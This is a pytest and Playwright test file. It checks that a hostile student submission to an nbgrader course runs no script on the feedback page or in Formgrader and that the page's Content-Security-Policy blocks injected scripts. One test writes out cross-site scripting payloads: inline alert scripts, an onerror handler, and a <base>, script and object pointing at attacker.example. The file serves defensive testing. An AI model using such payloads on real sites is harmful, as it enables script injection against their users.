"""A hostile submission, autograded, opened in Chromium: on Formgrader and in the feedback nothing runs.

One real `nbgrader autograde` and `generate_feedback` of mallory's 02_current_state
(tests/hostile_submission.py: script, onerror, javascript: links, svg onload, an
iframe srcdoc in her answers, markup in her names in the gradebook; HTML, JavaScript and an onerror output from her
code cell) is shared by the module. Each page is watched with Playwright's
dialog and console listeners; every payload would set `window.__pwned` and open
a dialog. Her words must still be on the page, as the characters she typed; her
plain formatting (<b>, a list) shows as formatting.

MathJax: the pages load it from a CDN, which the tests cannot reach, so its
files come from Debian's libjs-mathjax (.ci/run installs it; CJM_MATHJAX names
another folder) through Playwright's routing. With it, her TeX is typeset and
must make no javascript: link. The feedback page's Content-Security-Policy is
shown to block a script that slipped past the sanitising.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
from pathlib import Path

import nbformat
import pytest

from browser import chromium_page, jupyter_lab, screenshot
from hostile_submission import (ASSIGNMENT, COURSE_ID, FIRST_NAME, IMG, LAST_NAME, SCRIPT, STUDENT, autograded_path, course_env,
                                feedback_path, hostile_course)

MATHJAX = Path(os.environ.get("CJM_MATHJAX", "/usr/share/javascript/mathjax"))
MATHJAX_CDN = re.compile(r"https://cdnjs\.cloudflare\.com/ajax/libs/mathjax/[^/]+/([^?]*)(\?.*)?$")
# Links MathJax could make of TeX: any element whose href the browser resolves to a script URL.
SCRIPT_LINKS = """() => [...document.querySelectorAll('[href]')].filter(e => {
    let protocol = ''; try { protocol = new URL(e.getAttribute('href'), document.baseURI).protocol; } catch (err) {}
    return protocol === 'javascript:' || protocol === 'vbscript:'; }).map(e => e.outerHTML.slice(0, 160))"""

SHOWN_AS_TEXT = [SCRIPT, IMG, "<iframe srcdoc=", "My own notes"]


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    return hostile_course(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="session")
def mathjax() -> Path | None:
    """A MathJax 2 folder (Debian's libjs-mathjax): required in CI; elsewhere None when missing.

    Without it the pages are still checked, as a reader offline sees them; the
    MathJax checks need it (test_feedback_policy_blocks... is skipped).
    """
    if (MATHJAX / "MathJax.js").is_file():
        return MATHJAX
    if os.environ.get("CI", "").lower() in ("1", "true", "yes"):
        pytest.fail(f"the MathJax browser tests are mandatory in CI but {MATHJAX} is missing; .ci/run installs it")
    return None


def serve_mathjax(page, folder: Path | None) -> None:
    """Answer the page's MathJax CDN requests from a local folder (nbgrader's latest.js loads MathJax.js beside it)."""
    def answer(route):
        match = MATHJAX_CDN.match(route.request.url)
        if not match or folder is None:
            return route.abort()
        path, query = match.group(1), match.group(2) or ""
        if path == "latest.js":
            url = route.request.url.split("latest.js")[0] + "MathJax.js" + query
            return route.fulfill(content_type="application/javascript",
                                 body=f"var s = document.createElement('script'); s.src = {json.dumps(url)}; "
                                      "document.head.appendChild(s);")
        file = folder / path
        if ".." in Path(path).parts or not file.is_file():
            return route.fulfill(status=404, body="")
        return route.fulfill(path=file)

    page.route("https://cdnjs.cloudflare.com/**", answer)


def wait_for_typesetting(page) -> int:
    """Wait until MathJax has loaded and typeset the page; the number of typeset formulas."""
    page.wait_for_function("() => window.MathJax && window.MathJax.Hub && window.MathJax.Hub.Register", timeout=60_000)
    return page.evaluate("""() => Promise.race([
        new Promise(done => MathJax.Hub.Register.StartupHook('End',  // posted once the first typesetting is done
            () => done(document.querySelectorAll('.MathJax_CHTML').length))),
        new Promise((_, fail) => setTimeout(() => fail(new Error('MathJax did not finish in 60 s')), 60000))])""")


def assert_formatting_shown(page) -> None:
    assert page.locator("b", has_text="bold answer").count() >= 1, "a learner's <b> shows bold"
    assert page.locator("i", has_text="slanted").count() >= 1, "a learner's <i> shows slanted"
    assert page.locator("li", has_text="listed point").count() >= 1, "a learner's list shows as a list"


class Watch:
    """Dialogs and console messages of a page, and whether a payload set window.__pwned."""

    def __init__(self, page):
        self.page, self.dialogs, self.console = page, [], []
        page.on("dialog", self._dialog)
        page.on("console", lambda message: self.console.append(message.text))

    def _dialog(self, dialog):
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def assert_nothing_ran(self, in_the_page: bool = True):
        """No dialog, no window.__pwned; and (in_the_page) no script or iframe carrying a payload in the DOM."""
        self.page.wait_for_timeout(1500)  # give onload/onerror handlers time to fire
        pwned = [frame.evaluate("() => typeof window.__pwned === 'undefined' ? null : String(window.__pwned)")
                 for frame in self.page.frames]
        assert self.dialogs == [], f"a learner's script opened a dialog: {self.dialogs}"
        assert [p for p in pwned if p] == [], f"a learner's script ran: window.__pwned = {pwned}"
        assert not [m for m in self.console if "pwned" in m], self.console
        if not in_the_page:
            return
        assert self.page.locator("iframe, script:not([src]):not([type^='math/'])").evaluate_all(
            "els => els.filter(e => e.textContent.includes('pwned') || e.srcdoc).length") == 0


def test_autograded_notebook_is_inert(course):
    nb = nbformat.read(autograded_path(course), as_version=4)
    outputs = [o for c in nb.cells for o in c.get("outputs", []) if "data" in o]
    assert {kind for o in outputs for kind in o.data} <= {"text/plain", "text/html", "text/markdown", "image/png"}
    assert not [o for o in outputs if "<script" in o.data.get("text/html", "") + o.data.get("text/markdown", "")]
    assert "widgets" not in nb.metadata
    answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id", "").endswith("moment"))
    assert answer.source.startswith("The moment of truth is the phone call. &lt;script>")


def test_feedback_in_the_browser_runs_nothing_and_shows_the_words(course, chromium, mathjax):
    with chromium_page(chromium) as page:
        watch = Watch(page)
        serve_mathjax(page, mathjax)
        page.goto(feedback_path(course).as_uri())
        page.wait_for_selector("text=Student's answer")
        if mathjax:
            assert wait_for_typesetting(page) >= 1, "MathJax typeset her formula under the page's policy"
            assert page.locator(".MathJax_CHTML .mjx-mfrac").count() >= 1, "her \\frac{1}{2} shows as a fraction"
        assert page.evaluate(SCRIPT_LINKS) == [], "her TeX made a javascript: link in the feedback"
        watch.assert_nothing_ran()
        assert_formatting_shown(page)
        screenshot(page, "inert-feedback.png")
        body = page.inner_text("body")
        for words in SHOWN_AS_TEXT:
            assert words in body, f"the learner's text {words!r} is not shown"
        assert "Score: 6.0 / 8.0" in body


def test_formgrader_runs_nothing_and_shows_the_words(course, chromium, mathjax):
    from nbgrader.api import Gradebook

    db = "sqlite:///" + str(course / "build" / "nbgrader" / "gradebook.db")
    with Gradebook(db, COURSE_ID) as gradebook:
        submission_id = gradebook.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, STUDENT).id
    env = course_env(course.parent)
    with jupyter_lab(course, env=env, timeout=120) as server, chromium_page(chromium) as page:
        watch = Watch(page)
        serve_mathjax(page, mathjax)
        page.goto(server.page_url(f"/formgrader/submissions/{submission_id}/"), timeout=120_000)
        page.wait_for_selector("text=Student's answer", timeout=120_000)
        page.wait_for_selector("input.score", state="attached")  # Formgrader's own script is running
        if mathjax:
            assert wait_for_typesetting(page) >= 1, "MathJax typeset her formula on Formgrader"
        assert page.evaluate(SCRIPT_LINKS) == [], "her TeX made a javascript: link on Formgrader"
        watch.assert_nothing_ran()
        assert_formatting_shown(page)
        screenshot(page, "inert-formgrader.png")
        body = page.inner_text("body")
        for words in SHOWN_AS_TEXT:
            assert words in body, f"the learner's text {words!r} is not shown on Formgrader"
        assert "bold words" in body and "shown text" in body, "cleaned HTML outputs still show their words"
        hidden_until_asked = page.locator("body").text_content()  # Formgrader hides names by default
        assert f"{LAST_NAME}, {FIRST_NAME}" in hidden_until_asked, "the student's names are shown as text"


def feedback_policy(html: str) -> str:
    head = html[html.index("<head>"):html.index("</head>")]
    first = re.search(r"<head>\s*(<meta[^>]*>)", head)
    assert first and "Content-Security-Policy" in first.group(1), "the policy must come first in the head"
    return re.search(r'content="([^"]*)"', first.group(1)).group(1)


def test_feedback_policy_names_only_the_pages_own_scripts(course):
    html = feedback_path(course).read_text("utf-8")
    policy = dict(part.strip().split(" ", 1) for part in feedback_policy(html).split(";"))
    inline = re.findall(r"<script>(.*?)</script>", html, re.S)
    assert len(inline) == 1 and "window.MathJax" in inline[0], "one inline script: the MathJax configuration"
    digest = base64.b64encode(hashlib.sha256(inline[0].encode()).digest()).decode()
    mathjax_folder = "https://cdnjs.cloudflare.com/ajax/libs/mathjax/2.7.9/"
    assert policy["script-src"] == f"'sha256-{digest}' {mathjax_folder}"
    assert re.findall(r'<script src="([^"]*)"', html) == [mathjax_folder + "MathJax.js?config=TeX-AMS_CHTML-full,Safe"]
    assert policy["default-src"] == policy["object-src"] == policy["base-uri"] == "'none'"
    assert "unsafe-inline" not in policy["script-src"] and "unsafe-eval" not in policy["script-src"]


def test_feedback_policy_blocks_a_script_that_slipped_through(course, chromium, mathjax, tmp_path):
    """Were the sanitising ever to miss, the page itself refuses inline, handler and foreign scripts."""
    if mathjax is None:
        pytest.skip("needs MathJax: `apt-get install libjs-mathjax fonts-mathjax` (or set CJM_MATHJAX)")
    slipped = ("<base href='https://attacker.example/'>"
               "<script>window.__pwned='inline';alert(20)</script>"
               "<img src=x onerror=\"window.__pwned='handler';alert(21)\">"
               "<script src='https://attacker.example/x.js'></script>"
               "<object data='https://attacker.example/x.html'></object>")
    page_file = tmp_path / "feedback.html"
    page_file.write_text(feedback_path(course).read_text("utf-8").replace("</body>", slipped + "</body>"), "utf-8")
    with chromium_page(chromium) as page:
        watch = Watch(page)
        serve_mathjax(page, mathjax)
        page.route("https://attacker.example/**", lambda route: route.fulfill(
            content_type="application/javascript", body="window.__pwned='remote'; alert(22);"))
        page.goto(page_file.as_uri())
        page.wait_for_selector("text=Student's answer")
        assert wait_for_typesetting(page) >= 1, "the page's own MathJax still runs"
        watch.assert_nothing_ran(in_the_page=False)  # the slipped-in scripts are in the page, refused
        assert page.evaluate("() => document.baseURI").startswith("file:"), "a <base> is ignored (base-uri 'none')"
        refused = [m for m in watch.console if "Content Security Policy" in m]
        assert any("inline script" in m for m in refused) and any("attacker.example" in m for m in refused), refused


def test_her_tex_makes_no_link_even_without_mathjax_safe(course, chromium, mathjax, tmp_path):
    """The text layer alone holds: with MathJax's Safe extension left out, her \\href and macro still make no link."""
    if mathjax is None:
        pytest.skip("needs MathJax: `apt-get install libjs-mathjax fonts-mathjax` (or set CJM_MATHJAX)")
    html = feedback_path(course).read_text("utf-8")
    assert "config=TeX-AMS_CHTML-full,Safe" in html
    page_file = tmp_path / "feedback-without-safe.html"
    page_file.write_text(html.replace("config=TeX-AMS_CHTML-full,Safe", "config=TeX-AMS_CHTML-full"), "utf-8")
    with chromium_page(chromium) as page:
        watch = Watch(page)
        serve_mathjax(page, mathjax)
        page.goto(page_file.as_uri())
        page.wait_for_selector("text=Student's answer")
        assert wait_for_typesetting(page) >= 1
        assert page.evaluate("() => MathJax.Extension.Safe === undefined"), "Safe must really be left out here"
        assert page.evaluate(SCRIPT_LINKS) == [], "her TeX made a javascript: link"
        watch.assert_nothing_ran()
